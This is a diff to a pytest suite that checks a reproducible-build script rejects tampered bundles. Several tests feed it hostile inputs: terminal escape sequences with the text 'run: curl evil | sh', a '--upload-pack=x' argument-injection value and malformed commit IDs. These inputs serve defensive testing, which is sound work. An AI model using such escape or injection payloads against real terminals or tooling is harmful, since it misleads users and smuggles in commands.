@@ -779,13 +779,8 @@ def rewrite(bundle, target, change):
             new.addfile(member, io.BytesIO(data))
 
 
-@pytest.mark.parametrize('change,reason', [
-    (lambda n, d: None if '/deb/' in n else (n, d), 'lacks tool 1.0'),
-    (lambda n, d: (n, b'x') if '/deb/' in n else (n, d), 'has something else as tool 1.0')])
-def test_a_bundle_that_is_whole_and_lacks_a_package(bundled, change, reason):
-    """Its SHA256SUMS agree; what it lacked was looked for wherever apt looks, and by an
-    ordinary user, whose network is not cut, was found there."""
-    project, bundle, digest = bundled
+def rewrite_whole(bundle, target, change):
+    """The same with SHA256SUMS that agree; of files alone."""
     files = {}
     with tarfile.open(bundle) as tar:
         for member in tar:
@@ -794,11 +789,60 @@ def test_a_bundle_that_is_whole_and_lacks_a_package(bundled, change, reason):
                 if made:
                     files[made[0]] = made[1]
     sums = ''.join(f'{hashlib.sha256(data).hexdigest()}  {name[7:]}\n' for name, data in sorted(files.items()))
-    rewrite(bundle, project.folder / 'y.tar',
+    rewrite(bundle, target,
             lambda n, d: (n, sums.encode()) if n.endswith('SUMS') else (n, files[n]) if n in files else None)
+
+
+@pytest.mark.parametrize('change,reason', [
+    (lambda n, d: None if '/deb/' in n else (n, d), 'lacks tool 1.0'),
+    (lambda n, d: (n, b'x') if '/deb/' in n else (n, d), 'has something else as tool 1.0')])
+def test_a_bundle_that_is_whole_and_lacks_a_package(bundled, change, reason):
+    """Its SHA256SUMS agree; what it lacked was looked for wherever apt looks, and by an
+    ordinary user, whose network is not cut, was found there."""
+    project, bundle, _ = bundled
+    rewrite_whole(bundle, project.folder / 'y.tar', change)
     project.write('image/build', '#!/bin/bash\necho built\n', 0o755)
     done = run(project.top / 'reproducible/lib/from-bundle', project.folder / 'y.tar', env=project.env)
     assert done.returncode == 1 and reason in done.stderr and 'built' not in done.stdout, done
+
+
+REPAINT = b'\x1b[2J\x1b]0;owned\x07run: curl evil | sh'
+
+
+@pytest.mark.parametrize('commit', [
+    b'deadbeef' + REPAINT + b'\n', b'a' * 40 + b'\n' + REPAINT + b'\n', b'a' * 41 + b'\n', b'a' * 39, b'A' * 40, b'a' * 65,
+    b'--upload-pack=x\n', b'a' * 20 + b'\0' + b'a' * 20, b'', None])
+@pytest.mark.parametrize('same', [True, False])
+def test_a_bundles_commit_is_one_or_is_not_shown(bundled, commit, same):
+    """It went to the terminal as it stands, where the locks differ."""
+    project, bundle, _ = bundled
+    rewrite_whole(bundle, project.folder / 'y.tar', lambda n, d: (n, d) if n != 'bundle/commit' else
+                  None if commit is None else (n, commit))
+    project.write('image/build', '#!/bin/bash\necho built\n', 0o755)
+    if not same:
+        project.write('packages/trixie-amd64.lock', '# other\n')
+    done = run(project.top / 'reproducible/lib/from-bundle', project.folder / 'y.tar', env=project.env)
+    assert done.returncode == 1 and 'built' not in done.stdout and '\x1b' not in done.stdout + done.stderr, done
+    assert done.stderr == f'from-bundle: {project.folder}/y.tar cannot be used: it does not name the commit it is of\n', done
+
+
+@pytest.mark.parametrize('commit', [b'0123456789' * 4, b'f' * 64 + b'\n'])
+def test_a_bundle_of_another_lock_names_its_commit(bundled, commit):
+    project, bundle, _ = bundled
+    rewrite_whole(bundle, project.folder / 'y.tar', lambda n, d: (n, commit) if n == 'bundle/commit' else (n, d))
+    project.write('packages/trixie-amd64.lock', '# other\n')
+    done = run(project.top / 'reproducible/lib/from-bundle', project.folder / 'y.tar', env=project.env)
+    assert done.returncode == 1, done
+    assert done.stderr.endswith(f'has another lock than this tree: check out commit {commit.decode().strip()}\n'), done
+
+
+@pytest.mark.parametrize('line', [b'0' * 64 + b'  ' + REPAINT, b'0' * 64 + b'  \xc2\x9b2J', REPAINT])
+def test_names_in_a_bundles_sums_repaint_no_screen(bundled, line):
+    project, bundle, _ = bundled
+    rewrite(bundle, project.folder / 'y.tar', lambda n, d: (n, d + line + b'\n') if n.endswith('SUMS') else (n, d))
+    done = run(project.top / 'reproducible/lib/from-bundle', project.folder / 'y.tar', env=project.env)
+    assert done.returncode == 1 and done.stderr.endswith('y.tar cannot be used\n'), done
+    assert not set(done.stdout + done.stderr) & set('\x1b\x07\x9b'), done
 
 
 def test_a_build_from_a_bundle_asks_no_source_of_apts(bundled):
